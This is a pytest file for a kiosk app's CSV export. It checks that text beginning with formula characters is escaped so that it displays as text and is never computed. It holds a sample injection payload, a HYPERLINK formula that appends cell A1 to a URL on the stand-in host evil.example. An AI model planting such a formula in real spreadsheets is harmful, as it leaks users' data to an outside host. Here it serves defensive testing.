"""A formula typed as a topic or a note is text in the sheet somebody opens."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from kiosk.cli.server.export import export
from kiosk.server.home import Home
from kiosk.server.reports import export as sheet
from tests.server.desk_side import Tablet
from tests.server.station_side import StationSide

FORMULA = "=HYPERLINK(CONCATENATE(\"http://evil.example/\",A1),'Open me')"
SUM = "-2-3"
"""As far as a formula gets on the wire, where a topic is small letters, digits and dashes."""
DANGEROUS = tuple("=+-@\t\r")


def exported(home: Home, data: Path) -> list[list[str]]:
    """What a sheet shows of today with notes, as the command writes it."""
    config = data.with_name("site.toml")
    config.write_text('id = "lab"\nname = "The Lab"', "utf-8")
    day = home.store.site.day(home.store.now())
    words = ["--from", day, "--to", day, "--notes", "--config", str(config)]
    done = CliRunner().invoke(export, words)
    assert done.exit_code == 0, done.output
    return list(csv.reader(io.StringIO(done.stdout_bytes.decode(), newline="")))


def test_a_formula_in_topic_and_note_is_shown_and_never_computed(
    sender: StationSide, maya: Tablet, home: Home, data: Path
) -> None:
    visit = sender.arrives("=Ada", facts={"number": "B1", "station": "B", "topic": SUM})
    maya.does("call", visit)
    maya.finishes(visit, f'{FORMULA}\r\n=2+2, "quoted"')

    [_head, row] = exported(home, data)

    assert [cell for cell in row if cell.startswith(DANGEROUS)] == []
    assert row[3] == f"'{SUM}"
    assert row[-1] == f'\'{FORMULA}\r\n=2+2, "quoted"'
    assert "Ada" not in str(row)


@given(st.sampled_from(DANGEROUS), st.text())
def test_no_cell_begins_as_a_formula_does(first: str, rest: str) -> None:
    assert sheet.escape_formula(first + rest) == f"'{first}{rest}"


@given(st.text().filter(lambda text: not text.startswith(DANGEROUS)))
def test_every_other_word_stays_as_it_was(text: str) -> None:
    assert sheet.escape_formula(text) == text


def test_a_sheet_that_lets_formulas_through_would_be_found(
    sender: StationSide, home: Home, data: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(sheet, "escape_formula", lambda cell: cell)
    sender.arrives(facts={"number": "B1", "station": "B", "topic": SUM})

    assert exported(home, data)[1][3].startswith(DANGEROUS)
